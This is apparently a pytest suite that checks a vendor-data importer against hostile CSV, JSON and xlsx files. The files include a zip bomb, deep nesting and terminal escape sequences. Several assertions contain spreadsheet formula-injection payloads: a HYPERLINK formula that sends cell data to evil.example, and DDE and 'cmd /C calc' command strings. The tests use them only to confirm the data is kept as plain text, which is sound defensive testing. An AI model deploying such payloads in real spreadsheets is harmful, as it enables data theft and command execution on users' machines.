"""Hostile chain files: each one imports cleanly or raises InputError naming the file, and a failed
import leaves the store exactly as it was.

The committed corpus is in ``hostile/``; inputs that would be large to commit (a 200 kB cell, JSON nested
10,000 deep, a 16,384-column sheet, a decompression bomb) are generated here.
"""

from __future__ import annotations

import json
import subprocess
import sys
import textwrap
import time
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest
from openpyxl import Workbook
from sqlalchemy import select

from celtrace.chain.importer import import_chain_file
from celtrace.errors import InputError
from celtrace.workspace import Workspace
from celtrace.workspace.schema import Vendor
from tests.chain.helpers import attempt, counts, expect_input_error, snapshot, workbook, write

CORPUS = Path(__file__).parent / "hostile"

# What each file must do: "error" (InputError), "ok" (a clean import) or "either".
EXPECTED = {
    "broken_utf8.csv": "error",
    "duplicate_keys.json": "ok",
    "empty_header_names.csv": "error",
    "formula_injection.csv": "ok",
    "huge_integer.json": "either",
    "late_failure.json": "error",
    "lone_header.csv": "ok",
    "lone_surrogate.json": "either",
    "mixed_line_endings.csv": "ok",
    "not_a_workbook.xlsx": "error",
    "nul_bytes.csv": "error",
    "nul_escape.json": "either",
    "overlong_id.csv": "either",
    "terminal_escapes.csv": "ok",
    "unclosed_quote.csv": "either",
    # generated below
    "big_cell.csv": "error",
    "deep_nesting.json": "error",
    "wide_header.xlsx": "error",
    "formula_text.xlsx": "ok",
    "malformed_sheet.xlsx": "error",
}


def _big_cell(folder: Path) -> Path:
    return write(folder, "big_cell.csv", "name,notes\nAcme," + "A" * 200_000 + "\n")


def _deep_nesting(folder: Path) -> Path:
    return write(folder, "deep_nesting.json", '{"vendors": ' + "[" * 10_000 + "]" * 10_000 + "}")


def _wide_header(folder: Path) -> Path:
    book = Workbook(write_only=True)
    sheet = book.create_sheet("vendors")
    sheet.append([f"column {i}" for i in range(16_384)])
    sheet.append(["Acme"])
    path = folder / "wide_header.xlsx"
    book.save(path)
    return path


def _formula_text(folder: Path) -> Path:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.title = "vendors"
    sheet.append(["name", "notes"])
    for row, (name, notes) in enumerate([("=1+1", '=HYPERLINK("http://evil.example/","x")'), ("Acme", "@SUM(A1)")]):
        for column, text in enumerate((name, notes), start=1):
            cell = sheet.cell(row + 2, column)
            cell.value = text
            cell.data_type = "s"  # a text cell that merely starts with "=", as a hostile file would hold
    path = folder / "formula_text.xlsx"
    book.save(path)
    return path


def _malformed_sheet(folder: Path) -> Path:
    good = workbook(folder / "good.xlsx", {"vendors": [["name"], ["Acme"]]})
    path = folder / "malformed_sheet.xlsx"
    with zipfile.ZipFile(good) as source, zipfile.ZipFile(path, "w") as target:
        for info in source.infolist():
            data = source.read(info.filename)
            if info.filename == "xl/worksheets/sheet1.xml":
                data = data[: len(data) // 2]
            target.writestr(info.filename, data)
    good.unlink()
    return path


GENERATED: dict[str, Callable[[Path], Path]] = {
    "big_cell.csv": _big_cell,
    "deep_nesting.json": _deep_nesting,
    "wide_header.xlsx": _wide_header,
    "formula_text.xlsx": _formula_text,
    "malformed_sheet.xlsx": _malformed_sheet,
}
COMMITTED = sorted(path.name for path in CORPUS.iterdir() if not path.name.startswith("."))


def test_every_corpus_file_has_an_expectation() -> None:
    assert set(COMMITTED) | set(GENERATED) == set(EXPECTED)
    assert 10 <= len(COMMITTED) <= 15


def _hostile_file(name: str, tmp_path: Path) -> Path:
    if name in GENERATED:
        folder = tmp_path / "hostile"
        folder.mkdir()
        return GENERATED[name](folder)
    return CORPUS / name


def _baseline(workspace: Workspace, tmp_path: Path) -> None:
    """A store that already holds something, so that 'unchanged' means something."""
    path = write(
        tmp_path,
        "baseline.json",
        json.dumps(
            {
                "vendors": [{"name": "Studio Top", "country": "us"}, {"name": "Tier One", "client": "Studio Top"}],
                "people": [{"name": "Pat Lee", "vendor": "Tier One", "relation": "directs"}],
                "accounts": [{"username": "pat", "vendor": "Tier One"}],
            }
        ),
    )
    import_chain_file(workspace, path)


@pytest.mark.parametrize("name", sorted(EXPECTED))
def test_hostile_file_imports_cleanly_or_fails_cleanly(workspace: Workspace, tmp_path: Path, name: str) -> None:
    path = _hostile_file(name, tmp_path)
    _baseline(workspace, tmp_path)
    before = snapshot(workspace)
    started = time.monotonic()

    outcome = attempt(lambda: import_chain_file(workspace, path))
    elapsed = time.monotonic() - started
    assert elapsed < 5, f"took {elapsed:.1f} s"

    if isinstance(outcome, InputError):
        assert EXPECTED[name] in ("error", "either"), f"unexpected InputError: {outcome}"
        assert outcome.file is not None
        assert outcome.file.startswith(str(path))
        assert str(path) in str(outcome)
        assert snapshot(workspace) == before
    else:
        assert EXPECTED[name] in ("ok", "either"), f"{name} was imported: {outcome}"
        again = import_chain_file(workspace, path)
        assert again.changed == 0
        after = snapshot(workspace)
        assert import_chain_file(workspace, path).changed == 0
        assert snapshot(workspace) == after


def _vendors(workspace: Workspace) -> dict[str, Vendor]:
    with workspace.session() as session:
        return {vendor.name: vendor for vendor in session.scalars(select(Vendor))}


def test_formula_cells_are_stored_as_plain_text(workspace: Workspace) -> None:
    import_chain_file(workspace, CORPUS / "formula_injection.csv")
    vendors = _vendors(workspace)
    evil = vendors['=HYPERLINK("http://evil.example/?d="&A1,"click")']
    assert (evil.notes, evil.website) == ("plain", "ok")
    assert vendors["Plus Studio"].notes == "+cmd|' /C calc'!A0"
    assert vendors["Plus Studio"].website == "-2+3"
    assert vendors["At Studio"].notes == "@SUM(1+1)*cmd|' /C calc'!A0"
    assert vendors["At Studio"].website == "=1+1"
    assert vendors["Tab Studio"].notes == '=DDE("cmd";"/C calc";"!A0")'


def test_formula_text_in_xlsx_is_stored_as_plain_text(workspace: Workspace, tmp_path: Path) -> None:
    import_chain_file(workspace, _formula_text(tmp_path))
    vendors = _vendors(workspace)
    assert vendors["=1+1"].notes == '=HYPERLINK("http://evil.example/","x")'
    assert vendors["Acme"].notes == "@SUM(A1)"


def test_control_characters_are_kept_verbatim(workspace: Workspace) -> None:
    import_chain_file(workspace, CORPUS / "terminal_escapes.csv")
    [vendor] = _vendors(workspace).values()
    assert vendor.name == "Esc\x1b[31mRed\x1b[0m Studio"
    assert vendor.notes == "\u202egnp.exe\u200b \x07bell"


def test_mixed_line_endings_give_every_row(workspace: Workspace) -> None:
    summary = import_chain_file(workspace, CORPUS / "mixed_line_endings.csv")
    assert summary.counts["vendor created"] == 3
    assert {name: v.country for name, v in _vendors(workspace).items()} == {
        "Alpha Animation": "kr",
        "Bravo Pixel": "cn",
        "Charlie Line": "de",
    }


def test_duplicate_json_keys_keep_the_last(workspace: Workspace) -> None:
    import_chain_file(workspace, CORPUS / "duplicate_keys.json")
    assert {name: v.country for name, v in _vendors(workspace).items()} == {"Second": "kp"}


def test_lone_header_changes_nothing_and_leaves_no_audit_entry(workspace: Workspace) -> None:
    before = counts(workspace)
    summary = import_chain_file(workspace, CORPUS / "lone_header.csv")
    assert summary.changed == 0
    assert counts(workspace) == before


def test_late_failure_keeps_nothing_from_the_file(workspace: Workspace) -> None:
    before = counts(workspace)
    error = expect_input_error(lambda: import_chain_file(workspace, CORPUS / "late_failure.json"))
    assert (error.row, error.field) == (1, "target")
    assert error.file == f"{CORPUS / 'late_failure.json'} [links]"
    assert counts(workspace) == before


_BOMB_CHILD = textwrap.dedent(
    """
    import resource, sys, time
    from pathlib import Path

    import openpyxl  # noqa: F401  (loaded before the limit, like the reader would)
    from celtrace.chain.readers import read_records
    from celtrace.errors import InputError

    status = Path("/proc/self/status").read_text().split("VmSize:")[1].split()[0]
    limit = int(status) * 1024 + 256 * 2**20
    resource.setrlimit(resource.RLIMIT_AS, (limit, resource.getrlimit(resource.RLIMIT_AS)[1]))
    started = time.monotonic()
    try:
        records = read_records(Path(sys.argv[1]))
        outcome = f"ok {len(records)}"
    except InputError:
        outcome = "InputError"
    except BaseException as error:
        outcome = type(error).__name__
    print(outcome, round(time.monotonic() - started, 2))
    """
)


def _zip_bomb(path: Path, size: int) -> Path:
    """A valid workbook whose [Content_Types].xml is padded with ``size`` bytes of whitespace."""
    good = workbook(path.with_name("good.xlsx"), {"vendors": [["name"], ["Acme"]]})
    with zipfile.ZipFile(good) as source, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as bomb:
        for info in source.infolist():
            if info.filename != "[Content_Types].xml":
                bomb.writestr(info.filename, source.read(info.filename))
        with bomb.open("[Content_Types].xml", "w", force_zip64=True) as member:
            member.write(source.read("[Content_Types].xml"))
            chunk = b" " * 2**22
            for _ in range(size // len(chunk)):
                member.write(chunk)
    return path


@pytest.mark.skipif(not Path("/proc/self/status").is_file(), reason="measures memory through /proc")
def test_zip_bomb_renamed_xlsx_does_not_exhaust_memory(tmp_path: Path) -> None:
    path = _zip_bomb(tmp_path / "vendors.xlsx", 384 * 2**20)
    assert path.stat().st_size < 4 * 2**20
    result = subprocess.run(
        [sys.executable, "-c", _BOMB_CHILD, str(path)], capture_output=True, text=True, timeout=60, check=False
    )
    assert result.returncode == 0, result.stderr[-2000:]
    outcome, seconds = result.stdout.rsplit(maxsplit=1)
    assert outcome in ("InputError", "ok 1"), f"the reader ran out of its 256 MiB allowance: {outcome}"
    assert float(seconds) < 5
